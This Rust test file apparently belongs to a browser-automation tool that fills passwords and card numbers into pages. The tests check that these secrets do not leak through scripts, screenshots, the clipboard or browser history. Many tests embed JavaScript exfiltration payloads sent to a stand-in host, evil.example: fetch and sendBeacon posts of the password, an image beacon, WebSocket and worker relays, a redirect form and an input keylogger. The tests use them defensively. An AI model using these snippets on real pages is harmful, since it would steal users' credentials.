//! Secrets that had to go into the page: who may look then, and what pictures show.

use std::sync::atomic::Ordering;

use guise_chromium::Engine;
use guise_core::ports::{Browser as _, Channel};
use guise_core::{
    Action, Drop, FillRules, FillWay, Interaction, Kind, NodeSelectors, ScrapeOptions,
    ScreenshotType, Site, SiteRules,
};
use image::RgbImage;
use rstest::rstest;
use serde_json::{Value, json};
use tokio::sync::mpsc;

use super::source::CARD;
use super::world::{CODE, PASSWORD, World};
use crate::stage::{PATIENCE, by, click, soon};

const HOST: &str = "login.bank.example";

fn rules(way: FillWay) -> FillRules {
    let site = Site::of("bank.example").unwrap();
    let own = SiteRules {
        way,
        ..SiteRules::default()
    };
    FillRules {
        card_sites: [site.clone()].into(),
        sites: [(site, own)].into(),
    }
}

async fn world() -> World {
    World::with(rules(FillWay::Page)).await
}

fn evaluate(code: &str) -> Action {
    Action::EvaluateJs {
        code: code.to_owned(),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_sends_a_hash_gets_the_secret_at_the_second_try() {
    let world = World::new().await;
    world.page(HOST, "hashed").await;
    let outcome = world.fills("#password", PASSWORD).await;
    assert!(outcome.message.contains("stand-in"), "{}", outcome.message);
    world.click("#send").await;
    let first = world.sent_to("hashed").await;
    world.stage.site.reset();
    let outcome = world.fills("#password", PASSWORD).await;
    assert!(
        outcome.message.contains("itself is in the page"),
        "{}",
        outcome.message
    );
    world.click("#send").await;
    let second = world.sent_to("hashed").await;
    let proof = |body: &str| serde_json::from_str::<Value>(body).unwrap()["proof"].clone();
    assert_ne!(proof(&first.body), proof(&second.body));
    let hash = format!(
        "crypto.subtle.digest('SHA-256', new TextEncoder().encode({})).then((b) => [...new Uint8Array(b)].map((x) => x.toString(16).padStart(2, '0')).join(''))",
        serde_json::to_string(world.password()).unwrap()
    );
    assert_eq!(proof(&second.body), world.stage.evaluate(&hash).await);
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_sends_over_a_socket_gets_it_only_if_that_is_allowed() {
    let world = World::with(rules(FillWay::Wire)).await;
    world.page(HOST, "socket").await;
    for _ in 0..2 {
        world.fills("#password", PASSWORD).await;
        world.click("#send").await;
        world.taken(|take| take.method == "SOCKET").await;
        world.leaks_nothing();
    }
    world.end().await;

    let world = World::new().await;
    world.page(HOST, "socket").await;
    world.fills("#password", PASSWORD).await;
    world.click("#send").await;
    world.taken(|take| take.method == "SOCKET").await;
    world.leaks_nothing();
    world.fills("#password", PASSWORD).await;
    world.click("#send").await;
    let password = serde_json::to_string(world.password()).unwrap();
    world.taken(|take| take.body.contains(&password)).await;
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_form_is_not_put_off_because_something_else_was_sent() {
    // A press on the page that sends nothing of the password is no reason to put it into the page.
    let world = World::new().await;
    world.page(HOST, "classic").await;
    world.fills("#password", PASSWORD).await;
    world.click("h1").await;
    world.click("#send").await;
    world.sent_to("classic").await;
    world.page(HOST, "classic").await;
    let outcome = world.fills("#password", PASSWORD).await;
    assert!(outcome.message.contains("stand-in"), "{}", outcome.message);
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn scripts_wait_until_the_page_is_left() {
    let world = world().await;
    world.page(HOST, "classic").await;
    assert!(!world.stage.browser.secrets_live());
    world.fills("#password", PASSWORD).await;
    assert!(world.stage.browser.secrets_live());
    let outcome = world
        .perform(evaluate("document.querySelector('#password').value"))
        .await
        .outcome;
    assert!(!outcome.success && outcome.data.is_none());
    assert!(
        outcome.message.contains("vault:reveal"),
        "{}",
        outcome.message
    );
    // Who may read secrets may look.
    world.source.reveals.store(true, Ordering::SeqCst);
    let outcome = world
        .perform(evaluate("document.querySelector('#password').value"))
        .await
        .outcome;
    assert_eq!(outcome.data.unwrap().markdown, world.password());
    world.source.reveals.store(false, Ordering::SeqCst);

    world.click("#send").await;
    world.sent_to("classic").await;
    assert!(!world.stage.browser.secrets_live());
    let outcome = world.perform(evaluate("1 + 1")).await.outcome;
    assert_eq!(outcome.data.unwrap().markdown, "2");
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn sites_that_others_had_their_hands_in_get_none() {
    let world = world().await;
    world.page(HOST, "classic").await;
    let listen =
        "document.addEventListener('input', (e) => fetch('https://evil.example/sign-in/to/evil',
        { method: 'POST', body: e.target.value })); 0";
    world.perform(evaluate(listen)).await;
    // What a script left behind in the site's storage may still be there.
    for _ in 0..2 {
        let message = world.refuses("#password", PASSWORD).await;
        assert!(message.contains("start a new session"), "{message}");
        world.perform(Action::Reload).await;
    }
    world.leaks_nothing();
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn browsers_that_others_had_their_hands_in_have_none() {
    let world = world().await;
    let (to_browser, incoming) = mpsc::channel(16);
    let (outgoing, mut from_browser) = mpsc::channel(1024);
    let browser = std::sync::Arc::clone(&world.stage.browser);
    let client = tokio::spawn(async move {
        let channel = Channel { incoming, outgoing };
        browser.serve_client(channel, false).await
    });
    let hello = json!({"id": 1, "method": "Browser.getVersion"}).to_string();
    to_browser.send(hello.into()).await.unwrap();
    from_browser.recv().await.unwrap();
    world.page(HOST, "classic").await;
    let message = world.refuses("#password", PASSWORD).await;
    assert!(message.contains("client"), "{message}");
    drop(to_browser);
    client.await.unwrap().unwrap();
    world.page("www.bank.example", "classic").await;
    let message = world.refuses("#password", PASSWORD).await;
    assert!(message.contains("client"), "{message}");
    world.leaks_nothing();
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_takes_it_away() {
    let world = world().await;
    let form = "<form method=post action='/sign-in/redirect?status=307&to=https%3A%2F%2Fevil.example%2Fsign-in%2Fto%2Fevil'>
        <input id=password name=password type=password><button id=send>x</button></form>";
    world.made(HOST, form).await;
    world.fills("#password", PASSWORD).await;
    for code in [
        "fetch('https://evil.example/sign-in/to/evil', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ password: value }) })",
        "fetch('https://evil.example/sign-in/to/evil', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ a: value }) })",
        "fetch('https://evil.example/sign-in/to/evil', { method: 'POST', mode: 'no-cors', body: 'x' + value })",
        "fetch('https://evil.example/sign-in/to/evil?p=' + encodeURIComponent(value))",
        "fetch('/sign-in/to/here?p=' + encodeURIComponent(value))",
        "new Promise((done, fail) => { const i = new Image(); i.onerror = fail; i.onload = done; i.src = 'https://evil.example/sign-in/to/evil/' + encodeURIComponent(value) })",
        "fetch('https://evil.example/sign-in/to/evil', { headers: { 'x-p': encodeURIComponent(value) } })",
        "Promise.reject(navigator.sendBeacon('https://evil.example/sign-in/to/evil', new URLSearchParams({ password: value })))",
        "fetch('/sign-in/redirect?status=308&to=https%3A%2F%2Fevil.example%2Fsign-in%2Fto%2Fevil', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ password: value }) })",
        "new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob([`onmessage = (e) =>
            fetch('https://evil.example/sign-in/to/evil', { method: 'POST', mode: 'no-cors', body: e.data }).then(() => postMessage(1), () => postMessage(0))`])));
            w.onmessage = (e) => e.data ? done() : fail(); w.postMessage(value) })",
    ] {
        let code = format!(
            "(() => {{ const value = document.querySelector('#password').value; return {code}.then(() => 'arrived', () => 'failed') }})()"
        );
        assert_eq!(world.stage.evaluate(&code).await, "failed", "{code}");
    }
    // Others go on as ever, and so does the site's own.
    let other = "fetch('https://evil.example/sign-in/to/other', { method: 'POST', mode: 'no-cors', body: 'x' }).then(() => 'arrived')";
    assert_eq!(world.stage.evaluate(other).await, "arrived");
    world.click("#send").await;
    let take = world.taken(|take| take.path == "/sign-in/redirect").await;
    assert!(take.body.contains("canary"));
    world.page("www.bank.example", "blank").await;
    let takes = world.stage.site.takes();
    for take in takes.iter().filter(|take| take.path != "/sign-in/redirect") {
        world.says_nothing_in("what went elsewhere", &format!("{take:?}"));
        assert!(!take.path.ends_with("/evil"), "{take:?}");
    }
    world.end().await;
}

/// What the page tells to others takes nothing away either: its sockets, its service worker, a frame of another site, a window.
#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_the_page_tells_takes_it_away() {
    // W21, W23
    let world = world().await;
    world
        .made(HOST, "<input id=password name=password type=password>")
        .await;
    let register = "navigator.serviceWorker.register('/sign-in/service.js', { scope: '/' })
        .then(() => navigator.serviceWorker.ready)
        .then(() => navigator.serviceWorker.controller ?? new Promise((done) => { navigator.serviceWorker.oncontrollerchange = done }))
        .then(() => 'ready')";
    assert_eq!(world.stage.evaluate(register).await, "ready");
    let frame = "new Promise((done) => { const f = document.createElement('iframe'); f.onload = () => done('ready');
        f.src = 'https://evil.example/sign-in/made?body=' + encodeURIComponent(`<script>onmessage = ({ data, source }) =>
            fetch('/sign-in/to/evil', { method: 'POST', body: data }).then(() => 'arrived', () => 'failed').then((it) => source.postMessage(it, '*'))</script>`);
        document.body.append(f) })";
    assert_eq!(world.stage.evaluate(frame).await, "ready");
    world.fills("#password", PASSWORD).await;
    let answer = "const answer = (from) => new Promise((done) => from.addEventListener('message', ({ data }) => done(data), { once: true }))";
    let socket = |address: &str| {
        format!(
            "new Promise((done) => {{ const s = new WebSocket('{address}'); s.onerror = () => done('failed');
                s.onopen = () => {{ s.send(value); done('arrived') }} }})"
        )
    };
    let worker = |to: &str, body: &str| {
        format!(
            "(() => {{ navigator.serviceWorker.controller.postMessage({{ to: '{to}', body: {body} }}); return answer(navigator.serviceWorker) }})()"
        )
    };
    let evil = "https://evil.example/sign-in/to/evil";
    for (code, outcome) in [
        (socket("wss://evil.example/sign-in/socket"), "failed"),
        (
            "new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob([`onmessage = (e) => {
                const s = new WebSocket('wss://evil.example/sign-in/socket'); s.onerror = () => postMessage('failed');
                s.onopen = () => { s.send(e.data); postMessage('arrived') } }`]))); w.onmessage = (e) => done(e.data); w.postMessage(value) })".to_owned(),
            "failed",
        ),
        (worker(evil, "value"), "failed"),
        (
            "(() => { frames[0].postMessage(value, '*'); return answer(window) })()".to_owned(),
            "failed",
        ),
        // Others go on as ever, and so does the site's own.
        (socket("wss://login.bank.example/sign-in/socket"), "arrived"),
        (worker("https://evil.example/sign-in/to/other", "'x'"), "arrived"),
        (
            "(() => { frames[0].postMessage('x', '*'); return answer(window) })()".to_owned(),
            "arrived",
        ),
    ] {
        let code = format!(
            "(() => {{ const value = document.querySelector('#password').value; {answer}; return {code} }})()"
        );
        assert_eq!(world.stage.evaluate(&code).await, outcome, "{code}");
    }
    let own = |take: &guise_testsite::Take| take.method == "SOCKET";
    let told = world.taken(own).await;
    assert!(told.body.contains("canary"), "{told:?}");
    for take in world.stage.site.takes().iter().filter(|take| !own(take)) {
        world.says_nothing_in("what went elsewhere", &format!("{take:?}"));
    }
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn clients_are_turned_away_that_may_not_read_secrets() {
    let world = world().await;
    world.page(HOST, "classic").await;
    world.fills("#password", PASSWORD).await;
    let connect = async |reveals| {
        let (to_browser, incoming) = mpsc::channel(1);
        let (outgoing, _from_browser) = mpsc::channel(1);
        drop(to_browser);
        let channel = Channel { incoming, outgoing };
        world.stage.browser.serve_client(channel, reveals).await
    };
    let error = connect(false).await.unwrap_err();
    assert_eq!(error.kind(), Kind::Refused);
    assert!(error.message().contains("vault:reveal"), "{error}");
    connect(true).await.unwrap();
    world.click("#send").await;
    world.sent_to("classic").await;
    connect(false).await.unwrap();
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_read_from_the_page_leaves_it_out() {
    let world = world().await;
    world.page(HOST, "card").await;
    for (selector, placeholder) in [
        ("#holder", "John Doe"),
        ("#number", "4242 4242 4242 4242"),
        ("#expiry", "[CardExpirationPlaceholder]"),
        ("#cvc", "[CardCVVPlaceholder]"),
        // A name like any other.
        ("#name", "John Doe"),
    ] {
        world.fills(selector, placeholder).await;
    }
    let seen = world.stage.observe().await;
    let read = world.stage.scrape(&ScrapeOptions::default()).await.unwrap();
    for (part, secret) in CARD {
        assert!(
            !seen.description.contains(secret),
            "{part:?}: {}",
            seen.description
        );
        assert!(
            !read.data.markdown.contains(secret),
            "{part:?}: {}",
            read.data.markdown
        );
        for element in &seen.elements {
            assert!(
                !format!("{element:?}").contains(secret),
                "{part:?}: {element:?}"
            );
        }
    }
    assert!(
        seen.description.contains("John Doe"),
        "{}",
        seen.description
    );
    world.click("#send").await;
    let take = world.sent_to("card").await;
    let sent: Vec<String> = url::form_urlencoded::parse(take.body.as_bytes())
        .map(|(_, value)| value.into_owned())
        .collect();
    assert_eq!(
        sent,
        [CARD[0].1, CARD[1].1, CARD[3].1, CARD[2].1, "John Doe", ""]
    );

    // The browser's history does not bring it back.
    world.perform(Action::GoBack).await;
    for selector in ["#holder", "#number", "#expiry", "#cvc"] {
        let code = format!("document.querySelector('{selector}').value");
        let value = world.stage.evaluate(&code).await;
        assert!(
            CARD.iter().all(|(_, secret)| *secret != value),
            "{selector}: {value}"
        );
    }
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_code_goes_into_its_boxes() {
    let world = world().await;
    world.page(HOST, "boxes").await;
    world.fills("input[name=d1]", CODE).await;
    let take = world.sent_to("boxes").await;
    let sent: String = url::form_urlencoded::parse(take.body.as_bytes())
        .map(|(_, value)| value.into_owned())
        .collect();
    assert_eq!(sent, world.code());
    world.end().await;
}

pub(super) fn picture(jpeg: &[u8]) -> RgbImage {
    image::load_from_memory(jpeg).unwrap().into_rgb8()
}

/// Fails unless everything at a place of the picture is painted over.
pub(super) fn painted(picture: &RgbImage, place: &Value, what: &str) {
    let number = |name: &str| place[name].as_f64().unwrap();
    let (left, top) = (number("x").max(0.0) as u32, number("y").max(0.0) as u32);
    let right = (number("x") + number("width")) as u32;
    let bottom = (number("y") + number("height")) as u32;
    assert!(right > left && bottom > top, "{what}: {place}");
    for y in top..bottom.min(picture.height()) {
        for x in left..right.min(picture.width()) {
            let pixel = picture.get_pixel(x, y).0;
            assert!(
                pixel.iter().all(|&colour| colour < 60),
                "{what}: {pixel:?} at {x}, {y}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn pictures_show_nothing_of_it() {
    let world = world().await;
    let body = "<input id=password type=password>
         <p id=echo></p>
         <div id=host></div>
         <textarea id=copy></textarea>
         <p id=halves><b></b><i></i></p>
         <input id=empty>
         <style>#generated::before { content: attr(data-copy) }</style>
         <p id=generated></p>
         <select id=list><option></option></select>
         <canvas id=canvas width=300 height=30></canvas>
         <iframe id=frame width=300 height=60></iframe>
         <script>
           const field = document.getElementById('password');
           const root = document.getElementById('host').attachShadow({ mode: 'open' });
           root.innerHTML = '<b id=inside></b>';
           // As pages do that let people check what they typed.
           field.addEventListener('input', () => {
             field.type = 'text';
             document.getElementById('echo').textContent = 'You typed ' + field.value + '.';
             document.getElementById('copy').value = 'again: ' + field.value;
             root.getElementById('inside').textContent = field.value;
             document.querySelector('#halves b').textContent = field.value.slice(0, 7);
             document.querySelector('#halves i').textContent = field.value.slice(7);
             document.getElementById('empty').placeholder = field.value;
             document.getElementById('generated').dataset.copy = field.value;
             document.querySelector('#list option').textContent = field.value;
             document.getElementById('canvas').getContext('2d').fillText(field.value, 10, 20);
             document.getElementById('frame').contentDocument.body.innerHTML = '<b></b>';
             document.getElementById('frame').contentDocument.querySelector('b').textContent = field.value;
           });
         </script>";
    world.made(HOST, body).await;
    let mut pictures = world.stage.browser.record().await.unwrap();
    // Whatever was there before.
    tokio::time::timeout(PATIENCE, pictures.recv())
        .await
        .unwrap()
        .unwrap();
    world.fills("#password", PASSWORD).await;
    let places = "JSON.stringify({
        field: document.getElementById('password').getBoundingClientRect(),
        copy: document.getElementById('copy').getBoundingClientRect(),
        first: document.querySelector('#halves b').getBoundingClientRect(),
        second: document.querySelector('#halves i').getBoundingClientRect(),
        empty: document.getElementById('empty').getBoundingClientRect(),
        generated: document.getElementById('generated').getBoundingClientRect(),
        list: document.getElementById('list').getBoundingClientRect(),
        canvas: document.getElementById('canvas').getBoundingClientRect(),
        frame: (() => { const frame = document.getElementById('frame'); const outer = frame.getBoundingClientRect();
          const inner = frame.contentDocument.querySelector('b').getBoundingClientRect();
          return { x: outer.x + frame.clientLeft + inner.x, y: outer.y + frame.clientTop + inner.y, width: inner.width, height: inner.height } })(),
        inside: document.getElementById('host').shadowRoot.getElementById('inside').getBoundingClientRect(),
        echo: (() => { const r = document.createRange(); const t = document.getElementById('echo').firstChild; r.setStart(t, 10); r.setEnd(t, t.length - 1); return r.getBoundingClientRect() })(),
      })";
    let places: Value = serde_json::from_str(&world.stage.evaluate(places).await).unwrap();
    let shown = "document.getElementById('password').type";
    assert_eq!(world.stage.evaluate(shown).await, "text");
    let screenshot = world
        .stage
        .browser
        .screenshot(ScreenshotType::Raw, soon())
        .await
        .unwrap();
    let observed = world.stage.observe().await.screenshot;
    for (name, place) in places.as_object().unwrap() {
        painted(&picture(&screenshot.jpeg), place, name);
        painted(&picture(&observed.jpeg), place, name);
    }
    // A later picture of the recording.
    world
        .stage
        .evaluate("document.body.style.background = '#eef'; 0")
        .await;
    let mut later = None;
    for _ in 0..3 {
        world.stage.evaluate("document.body.append('.'); 0").await;
        later = tokio::time::timeout(PATIENCE, pictures.recv())
            .await
            .unwrap();
    }
    let later = picture(&later.unwrap());
    for (name, place) in places.as_object().unwrap() {
        painted(&later, place, name);
    }
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn pictures_show_nothing_of_it_in_frames() {
    let world = world().await;
    world
        .page(
            "www.bank.example",
            &format!("frame?src=https://{HOST}/sign-in/page/classic"),
        )
        .await;
    let inside = "iframe >> internal:control=enter-frame >> #password";
    world.fills(inside, PASSWORD).await;
    let shot = world
        .stage
        .browser
        .screenshot(ScreenshotType::Raw, soon())
        .await
        .unwrap();
    let frame: Value = serde_json::from_str(
        &world
            .stage
            .evaluate("JSON.stringify(document.querySelector('iframe').getBoundingClientRect())")
            .await,
    )
    .unwrap();
    // Somewhere in the frame there is a painted box, at least as large as the field.
    let picture = picture(&shot.jpeg);
    let number = |name: &str| frame[name].as_f64().unwrap() as u32;
    let (left, top) = (number("x"), number("y"));
    let dark = |x, y| picture.get_pixel(x, y).0.iter().all(|&colour| colour < 60);
    let longest = |y| {
        let mut run = 0;
        let runs = (left..left + number("width")).map(|x| {
            run = if dark(x, y) { run + 1 } else { 0 };
            run
        });
        runs.max().unwrap()
    };
    let rows = (top..top + number("height")).filter(|&y| longest(y) > 100);
    assert!(rows.count() > 15, "nothing is painted over");
    world
        .perform(click(by("iframe >> internal:control=enter-frame >> #send")))
        .await;
    world.sent_to("classic").await;
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_is_copied_out_of_it() {
    let world = world().await;
    world.page(HOST, "card").await;
    world.fills("#number", "4242 4242 4242 4242").await;
    for key in ["Control+A", "Control+C", "Control+X", "Control+Insert"] {
        let key = key.to_owned();
        let outcome = world
            .perform(Action::PressKey { key: key.clone() })
            .await
            .outcome;
        assert_eq!(outcome.success, key == "Control+A", "{}", outcome.message);
    }
    // Nor dragged, which is a copy, too.
    let to = Drop::Element {
        id: None,
        selectors: Some(NodeSelectors::from_text("#note")),
    };
    let drag = Action::Interact {
        target: by("#number"),
        interaction: Interaction::DragAndDrop { to: to.into() },
    };
    let outcome = world.perform(drag).await.outcome;
    assert!(outcome.message.contains("a copy"), "{}", outcome.message);
    // Neither what the page copied itself, here or when it is left.
    let copies = "document.addEventListener('click', () => { addEventListener('copy', (event) => {
        event.clipboardData.setData('text/plain', document.querySelector('#number').value); event.preventDefault(); },
        { once: true, capture: true }); document.execCommand('copy'); }, { once: true }); 0";
    world.stage.evaluate(copies).await;
    world.perform(click(by("#note"))).await;
    let paste = || Action::PressKey {
        key: "Control+V".to_owned(),
    };
    let outcome = world.perform(paste()).await.outcome;
    assert!(!outcome.success, "{}", outcome.message);
    let note = world
        .stage
        .evaluate("document.querySelector('#note').value")
        .await;
    world.says_nothing_in("the clipboard", &note);
    world.page("www.bank.example", "card").await;
    world.perform(click(by("#note"))).await;
    let outcome = world.perform(paste()).await.outcome;
    assert!(!outcome.success, "{}", outcome.message);
    world.source.reveals.store(true, Ordering::SeqCst);
    let outcome = world.perform(paste()).await.outcome;
    assert!(outcome.success, "{}", outcome.message);
    let note = world
        .stage
        .evaluate("document.querySelector('#note').value")
        .await;
    assert_eq!(note, CARD[1].1, "the page copied nothing");
    world.end().await;
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn a_page_that_comes_back_with_it_is_known(
    #[values(Engine::HeadlessShell, Engine::Full)] engine: Engine,
) {
    let world = World::running(engine, rules(FillWay::Page)).await;
    for (page, selector, placeholder) in [
        ("classic", "#password", PASSWORD),
        ("card", "#number", "4242 4242 4242 4242"),
        ("code", "#code", CODE),
    ] {
        world.page(HOST, page).await;
        world.fills(selector, placeholder).await;
        let code = format!("document.querySelector('{selector}').value");
        let secret = world.stage.evaluate(&code).await;
        world.page("www.bank.example", "blank").await;
        assert!(!world.stage.browser.secrets_live());
        world.perform(Action::GoBack).await;
        let value = world.stage.evaluate(&code).await;
        // Either the browser kept the whole page, or it has a new one with nothing in it.
        assert_eq!(
            world.stage.browser.secrets_live(),
            value == secret,
            "{page}: {value}"
        );
        assert!(value == secret || value.is_empty(), "{page}: {value}");
    }
    world.end().await;
}
